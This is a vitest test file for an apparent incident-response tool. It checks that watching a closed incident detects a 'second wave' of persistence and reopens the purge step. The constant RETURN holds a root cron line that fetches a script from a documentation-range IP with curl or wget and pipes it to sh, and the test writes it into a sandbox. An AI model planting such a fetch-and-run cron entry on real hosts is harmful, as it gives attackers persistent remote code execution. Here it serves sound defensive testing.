import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openSandbox } from '../../src/drill/sandbox.ts';
import { Incidents, run, start } from './program.ts';

let incidents: Incidents;
beforeAll(async () => {
  incidents = await Incidents.make();
});
afterAll(() => incidents.end());
const tourniquet = (...args: string[]) => run(['--incident-dir', incidents.folder, ...args]);

/** What a second wave would plant; it names nothing that could be reached. */
const RETURN =
  '* * * * * root (curl -fsSL http://203.0.113.77/i.sh||wget -qO- http://203.0.113.77/i.sh)|sh\n';

test('a closed incident is watched alone: quiet is 0, a return is 3, opens its step and says what was noticed', async () => {
  const drill = tourniquet('drill', '--yes', '--max-risk', 'irreversible', '--input', 'watch-for=5s');
  expect(drill.stdout + drill.stderr).toContain('Drill won');
  const id = incidents.newest();

  const quiet = tourniquet('watch', id, '--once');
  expect(quiet.stdout).toContain('nothing came back (1 look)');
  expect(quiet.code).toBe(0);

  const attached = () =>
    readFileSync(`${incidents.folder}/${id}/journal.jsonl`, 'utf8').split('"runner-attached"').length;
  const before = attached();
  const watching = start([
    '--incident-dir',
    incidents.folder,
    'watch',
    id,
    '--for',
    '10m',
    '--every',
    '1s',
    '--json',
  ]);
  let said = '';
  watching.stdout.on('data', (bytes: Buffer) => {
    said += bytes.toString();
  });
  const ended = once(watching, 'exit');
  // It holds the incident once it is attached: whoever looks meanwhile is told so.
  while (attached() === before) await new Promise((resolve) => setTimeout(resolve, 100));
  const beside = tourniquet('watch', id, '--once');
  expect(beside.stdout).toContain('not recorded here');
  expect(beside.code).toBe(0);
  const sandbox = openSandbox(await incidents.sandboxId(id));
  const [file = '', ...argv] = sandbox.agentCommand([
    '/bin/sh',
    '-c',
    'printf "%s" "$1" > /etc/cron.d/second-wave',
    'sh',
    RETURN,
  ]);
  execFileSync(file, argv);
  const [code] = await ended;
  expect(code).toBe(3);
  const result = JSON.parse(said);
  expect(result).toMatchObject({
    cameBack: true,
    notRecorded: null,
    reopened: expect.arrayContaining(['purge-persistence']),
  });

  const log = JSON.parse(tourniquet('show', id, '--json').stdout);
  expect(JSON.stringify(log)).toContain('purge-persistence');
  const transcript = tourniquet('transcript', id).stdout;
  expect(transcript).toContain('came back');
  expect(transcript).toContain('/etc/cron.d/second-wave');
  expect(tourniquet('verify', id).code).toBe(0);
}, 900_000);
